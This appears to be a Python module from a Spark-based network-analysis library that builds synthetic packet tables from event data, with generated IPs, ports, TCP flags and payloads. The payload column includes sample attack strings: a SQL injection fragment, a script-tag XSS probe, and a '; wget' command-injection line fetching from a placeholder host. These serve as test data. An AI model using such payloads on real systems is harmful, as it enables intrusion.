"""The driver's tables, and packet-like views derived from them.

Every view is plain SQL text that means the same to Spark and to an ANSI
engine, so a query and its check start from equal rows.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession

TABLES = [
    "region",
    "nation",
    "customer",
    "supplier",
    "part",
    "orders",
    "lineitem",
    "events",
    "documents",
    "embeddings",
    "pages",
    "benchmark",
    "labels",
    "conversations",
]

_TCP = "event_type NOT IN ('signup', 'error')"
_NUMBER = "regexp_extract(props, '[0-9]+', 0)"

PACKET_COLUMNS = {
    "packet_id": "event_id",
    "ts": "ts",
    "protocol": "CASE event_type WHEN 'signup' THEN 'UDP' WHEN 'error' THEN 'ICMP' ELSE 'TCP' END",
    "src_ip": "CASE user_id % 5 WHEN 0 THEN concat('185.216.35.', CAST(user_id % 256 AS STRING)) "
    "WHEN 1 THEN concat('109.70.100.', CAST(user_id % 256 AS STRING)) "
    "WHEN 2 THEN concat('8.8.', CAST(user_id % 8 AS STRING), '.', CAST(user_id % 256 AS STRING)) "
    "ELSE concat('192.168.', CAST(user_id % 4 AS STRING), '.', CAST(user_id % 256 AS STRING)) END",
    "dst_ip": f"concat('10.0.', CAST(CAST({_NUMBER} AS INT) % 4 AS STRING), '.', {_NUMBER})",
    "src_port": "CASE WHEN event_type <> 'error' THEN CAST(1024 + (event_id * 7919) % 64511 AS INT) END",
    "dst_port": "CASE WHEN event_type <> 'error' THEN CAST(CASE event_id % 8 WHEN 0 THEN 22 WHEN 1 THEN 53 "
    "WHEN 2 THEN 80 WHEN 3 THEN 443 WHEN 4 THEN 3306 WHEN 5 THEN 21 WHEN 6 THEN 8080 "
    "ELSE 40000 + event_id % 1000 END AS INT) END",
    "length": "CAST(floor(value * 3) AS INT) + 40",
    "payload_len": "CAST(floor(value * 3) AS INT)",
    "ttl": "CAST(32 * (1 + event_id % 4) AS INT)",
    "syn": f"CASE WHEN {_TCP} THEN event_id % 2 = 0 END",
    "ack": f"CASE WHEN {_TCP} THEN event_id % 3 <> 0 END",
    "fin": f"CASE WHEN {_TCP} THEN event_id % 7 = 0 END",
    "rst": f"CASE WHEN {_TCP} THEN event_id % 11 = 0 END",
    "psh": f"CASE WHEN {_TCP} THEN event_id % 5 = 0 END",
    "urg": f"CASE WHEN {_TCP} THEN event_id % 97 = 0 END",
    "payload": "CASE event_id % 20 WHEN 0 THEN 'id=1 UNION  SELECT name FROM t' "
    "WHEN 1 THEN '<script>alert(1)</script>' WHEN 2 THEN '; wget http://bad.example.com/x' "
    "WHEN 3 THEN 'GET /index.html Host: evil.example.org' ELSE props END",
    "label": "CASE WHEN event_type = 'error' THEN 1 ELSE 0 END",
}

PACKETS_SQL = (
    "SELECT " + ", ".join(f"{expr} AS {name}" for name, expr in PACKET_COLUMNS.items()) + " FROM events"
)


def with_packets(sql: str) -> str:
    """Prefix a query on ``packets`` with the packet view."""
    body = sql.strip()
    head = f"WITH packets AS ({PACKETS_SQL})"
    if body.upper().startswith("WITH RECURSIVE"):
        return f"WITH RECURSIVE packets AS ({PACKETS_SQL}), {body[14:]}"
    if body.upper().startswith("WITH "):
        return f"{head}, {body[4:]}"
    return f"{head} {body}"


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    """A driver table. Times have no zone in the files; UTC is used throughout."""
    spark.conf.set("spark.sql.session.timeZone", "UTC")
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def flat_packets(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Events as packets with flat flag columns."""
    return table(spark, sf_dir, "events").selectExpr(*[f"{expr} AS {name}" for name, expr in PACKET_COLUMNS.items()])


def packets(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Events as packets with the ``tcp_flags`` struct."""
    from netsift.functions.network import nest_flags

    return nest_flags(flat_packets(spark, sf_dir))
